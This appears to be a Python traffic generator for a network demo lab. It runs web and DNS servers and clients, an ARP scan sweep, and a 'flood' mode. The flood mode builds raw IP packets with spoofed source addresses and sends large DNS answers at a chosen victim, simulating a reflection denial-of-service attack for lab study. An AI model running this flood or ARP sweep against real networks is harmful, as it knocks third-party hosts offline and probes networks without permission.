#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""The traffic of the demo lab that ping and iperf do not make. Each run plays one part on one host."""

import argparse
import http.client
import http.server
import ipaddress
import random
import socket
import struct
import time

# -- web

FILES = {
    # path            bytes      share of the requests
    "/":             (6_000,     45),
    "/style.css":    (24_000,    32),
    "/photo.jpg":    (300_000,   18),
    "/paper.pdf":    (1_000_000,  4),
    "/video.mp4":    (2_000_000,  1),
}


class WebPage(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        size, _ = FILES[self.path]
        self.send_response(200)
        self.send_header("Content-Length", str(size))
        self.end_headers()
        self.wfile.write(bytes(size))


class WebServer(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6    # "::" takes IPv4 as well


def web_server(_):
    WebServer(("::", 80), WebPage).serve_forever()


def web_client(options):
    chance = random.Random(options.seed)
    while True:
        time.sleep(chance.expovariate(0.4))
        path = chance.choices(list(FILES), [share for _, share in FILES.values()])[0]
        try:
            connection = http.client.HTTPConnection(options.server, 80, timeout=20)
            connection.request("GET", path, headers={"Host": "www.example.com"})
            connection.getresponse().read()
            connection.close()
        except OSError:
            pass    # the network is full of a flood: like a person, try again later


# -- names

A, AAAA = 1, 28

ZONE = {
    "www.example.com":   ("10.0.0.1", "2001:db8::1"),
    "example.com":       ("10.0.0.1", "2001:db8::1"),
    "cdn.example.com":   ("192.0.2.80", "2001:db8:80::80"),
    "mail.example.net":  ("192.0.2.25", "2001:db8:25::25"),
    "ns1.example.net":   ("10.0.0.2", "2001:db8::2"),
    "time.example.net":  ("192.0.2.123", None),
    "api.example.org":   ("192.0.2.44", "2001:db8:44::44"),
    "files.example.org": ("10.0.0.7", "2001:db8::7"),
}
MISTYPED = ["wwww.example.com", "printer.example.net"]


def name_bytes(name):
    return b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"


def read_name(packet, offset):
    labels = []
    while length := packet[offset]:
        labels.append(packet[offset + 1:offset + 1 + length].decode())
        offset += 1 + length
    return ".".join(labels), offset + 1


def dns_answer(query):
    """The name server's answer: the addresses of ZONE, nothing for a missing type, else "no such name"."""
    name, end = read_name(query, 12)
    kind, = struct.unpack_from("!H", query, end)
    found = ZONE.get(name)
    address = found and found[kind == AAAA]
    flags = 0x8580 if found else 0x8583
    packet = query[:2] + struct.pack("!5H", flags, 1, 1 if address else 0, 0, 0) + query[12:end + 4]
    if address:
        data = ipaddress.ip_address(address).packed
        packet += struct.pack("!3HIH", 0xc00c, kind, 1, 300, len(data)) + data
    return packet


def dns_server(_):
    server = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    server.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    server.bind(("::", 53))
    while True:
        query, client = server.recvfrom(512)
        server.sendto(dns_answer(query), client)


def dns_client(options):
    chance = random.Random(options.seed)
    family = socket.AF_INET6 if ":" in options.server else socket.AF_INET
    while True:
        time.sleep(chance.expovariate(8))
        name = chance.choice(list(ZONE) * 4 + MISTYPED)
        kind = chance.choice((A, AAAA))
        query = struct.pack("!6H", chance.getrandbits(16), 0x0100, 1, 0, 0, 0)
        query += name_bytes(name) + struct.pack("!2H", kind, 1)
        with socket.socket(family, socket.SOCK_DGRAM) as resolver:      # a new port for each question
            resolver.settimeout(1)
            try:
                resolver.sendto(query, (options.server, 53))
                resolver.recv(512)
            except OSError:
                pass


# -- raw packets

def arp_sweep(options):
    """Asks for every address of a network, ten a second, as a scanner does."""
    (_, name), = [i for i in socket.if_nameindex() if i[1].endswith("-eth0")]
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((name, 0x0806))
    mac = wire.getsockname()[4]
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect((str(options.network[1]), 9))     # sends nothing, tells our own address
    mine = socket.inet_aton(probe.getsockname()[0])
    for address in options.network.hosts():
        arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, mac, mine, bytes(6), address.packed)
        wire.send(b"\xff" * 6 + mac + b"\x08\x06" + arp)
        time.sleep(0.1)


def flood(options):
    """Large DNS answers from invented servers to one victim, as a reflection attack looks from its target."""
    chance = random.Random(options.seed)
    first, last = int(options.first), int(options.last)
    wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    question = name_bytes("example.com") + struct.pack("!2H", 255, 1)       # ANY
    begin = time.monotonic()
    sent, due = 0, 0        # bytes of this slice, when the next slice begins
    while (now := time.monotonic() - begin) < options.time:
        if sent > options.mbit * 125_000 * 0.02:                                # 20 ms at full strength
            strength = min(1, (now + 0.5) / 3, (options.time - now + 0.5) / 3)  # three seconds up, three down
            due = max(due, now - 0.1) + 0.02 / strength
            time.sleep(max(0, due - now))
            sent = 0
        text = bytes(chance.choices(b"abcdefghijklmnopqrstuvwxyz0123456789", k=200))
        answers = chance.randint(5, 6)
        dns = struct.pack("!6H", chance.getrandbits(16), 0x8180, 1, answers, 0, 0) + question
        dns += (struct.pack("!3HIHB", 0xc00c, 16, 1, 3600, 201, 200) + text) * answers
        udp = struct.pack("!4H", 53, chance.choice((20480, 31337, 40000, 54321)), 8 + len(dns), 0)
        source = chance.randint(first, last)
        ip = struct.pack("!BBHHHBBHI4s", 0x45, 0, 28 + len(dns), chance.getrandbits(16), 0, 58, 17, 0,
                         source, options.victim.packed)
        wire.sendto(ip + udp + dns, (str(options.victim), 0))
        sent += 14 + len(ip) + len(udp) + len(dns)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parts = parser.add_subparsers(required=True, metavar="PART")

    def part(name, play):
        added = parts.add_parser(name)
        added.set_defaults(play=play)
        return added

    part("web-server", web_server)
    part("dns-server", dns_server)
    for name, play in ("web-client", web_client), ("dns-client", dns_client):
        client = part(name, play)
        client.add_argument("server")
        client.add_argument("--seed", type=int, default=1)
    part("arp-sweep", arp_sweep).add_argument("network", type=ipaddress.ip_network)
    attack = part("flood", flood)
    attack.add_argument("victim", type=ipaddress.ip_address)
    attack.add_argument("first", type=ipaddress.ip_address, help="first invented source address")
    attack.add_argument("last", type=ipaddress.ip_address)
    attack.add_argument("--mbit", type=float, default=10)
    attack.add_argument("--time", type=float, default=10)
    attack.add_argument("--seed", type=int, default=1)

    options = parser.parse_args()
    options.play(options)


if __name__ == "__main__":
    main()
